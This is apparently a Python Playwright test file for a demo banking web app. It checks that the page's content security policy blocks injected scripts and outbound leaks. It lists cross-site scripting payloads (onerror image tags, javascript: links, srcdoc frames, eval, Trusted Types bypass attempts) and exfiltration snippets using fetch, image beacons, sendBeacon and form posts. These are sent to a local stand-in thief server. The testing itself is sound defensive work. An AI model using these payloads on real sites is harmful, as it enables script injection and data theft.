"""A script that got into the page all the same: it must not run, and what it knows must not leave.

Each attack is tried a second time with the page's policy taken away, where it must succeed; an
attack that never works would show nothing.
"""

import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Final

import pytest
from playwright.sync_api import Browser, Page, expect
from tests.site.app import PATIENCE_S, App
from tests.site.conftest import new_context

from dojang.demo import Person
from dojang.journey.served import Served

RUNS: Final = {
    "markup": 'document.body.innerHTML += \'<img src="/no" onerror="window.stolen = 1">\'',
    "inline script": """
        const one = document.createElement('script');
        one.append(document.createTextNode('window.stolen = 1'));
        document.body.append(one)""",
    "event handler": """
        const one = document.createElement('button');
        one.setAttribute('onclick', 'window.stolen = 1');
        document.body.append(one);
        one.click()""",
    "script address": """
        const one = document.createElement('a');
        one.href = 'javascript:void(window.stolen = 1)';
        document.body.append(one);
        one.click()""",
    "frame": """
        const one = document.createElement('iframe');
        one.srcdoc = '<script>parent.stolen = 1</script>';
        document.body.append(one)""",
    "eval": "(0, eval)('window.stolen = 1')",
    "function": "new Function('window.stolen = 1')()",
    "timer": "setTimeout('window.stolen = 1')",
    "own policy": """
        const mine = trustedTypes.createPolicy('mine', { createHTML: (text) => text });
        document.body.innerHTML = mine.createHTML('<img src="/no" onerror="window.stolen = 1">')""",
    "policy of the app": """
        const mine = trustedTypes.createPolicy('dojang', { createScript: (text) => text });
        (0, eval)(mine.createScript('window.stolen = 1'))""",
}

LEAVES: Final = {
    "fetch": "fetch('{there}/fetch', { mode: 'no-cors' }).catch(() => 0)",
    "picture": "new Image().src = '{there}/picture'",
    "beacon": "navigator.sendBeacon('{there}/beacon', 'pin=1')",
    "form": """
        const one = document.createElement('form');
        one.action = '{there}/form';
        one.method = 'post';
        one.target = '_blank';
        document.body.append(one);
        one.submit()""",
}

A_MOMENT_MS: Final = 400


class Elsewhere(ThreadingHTTPServer):
    """The thief's own server: it notes what it is asked."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Noting)
        self.asked: list[str] = []
        self.origin = f"http://127.0.0.1:{self.server_port}"


class _Noting(BaseHTTPRequestHandler):
    server: Elsewhere

    def do_GET(self) -> None:
        self.server.asked.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET  # noqa: N815 - the name is the library's

    def log_message(self, *_: object) -> None: ...


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    with Elsewhere() as listening:
        Thread(target=listening.serve_forever, daemon=True).start()
        yield listening
        listening.shutdown()


@pytest.fixture
def guarded(browser: Browser, shared_bank: Served) -> Iterator[Page]:
    yield from _opened(browser, shared_bank, bypass_csp=False)


@pytest.fixture
def unguarded(browser: Browser, shared_bank: Served) -> Iterator[Page]:
    yield from _opened(browser, shared_bank, bypass_csp=True)


def _opened(browser: Browser, bank: Served, *, bypass_csp: bool) -> Iterator[Page]:
    context = new_context(browser, bypass_csp=bypass_csp, service_workers="block")
    page = context.new_page()
    page.goto(bank.origin + "/")
    expect(page.locator("[data-screen]").first).to_be_visible()
    yield page
    context.close()


@pytest.mark.parametrize("attack", RUNS)
def test_no_injected_script_runs(guarded: Page, attack: str):
    _attack(guarded, RUNS[attack])

    assert guarded.evaluate("window.stolen") is None


@pytest.mark.parametrize("attack", RUNS)
def test_without_the_policy_it_would(unguarded: Page, attack: str):
    _run(unguarded, RUNS[attack])

    unguarded.wait_for_function("window.stolen === 1")


@pytest.mark.parametrize("way", LEAVES)
def test_nothing_leaves_for_elsewhere(guarded: Page, elsewhere: Elsewhere, way: str):
    _attack(guarded, LEAVES[way].replace("{there}", elsewhere.origin))

    assert elsewhere.asked == []


@pytest.mark.parametrize("way", LEAVES)
def test_without_the_policy_it_would_leave(unguarded: Page, elsewhere: Elsewhere, way: str):
    _run(unguarded, LEAVES[way].replace("{there}", elsewhere.origin))

    until = time.monotonic() + PATIENCE_S
    while not elsewhere.asked and time.monotonic() < until:
        unguarded.wait_for_timeout(50)
    assert elsewhere.asked == [f"/{way}"]


def test_markup_in_a_memo_is_only_text(app: App, minyong: Person):
    memo = "<b id=hurt>Hi</b>"
    app.issue(minyong)
    app.log_in(minyong.pin)
    app.send_from_first_account()
    app.order(bank="901", account="90112345678901", amount=1_000, memo=memo)

    expect(app.page.get_by_text(memo, exact=True).first).to_be_visible()
    app.next()
    app.digits(minyong.pin)
    app.at("transfer-posted")
    expect(app.page.locator("#hurt")).to_have_count(0)


def _attack(page: Page, script: str) -> None:
    """Give it time to do harm: without the policy it would have."""
    _run(page, script)
    page.wait_for_timeout(A_MOMENT_MS)


def _run(page: Page, script: str) -> None:
    """As the page's own code, in a turn of its own: in a debugger's turn eval is free."""
    page.evaluate(f"() => void setTimeout(() => {{ try {{ {script} }} catch {{}} }})")
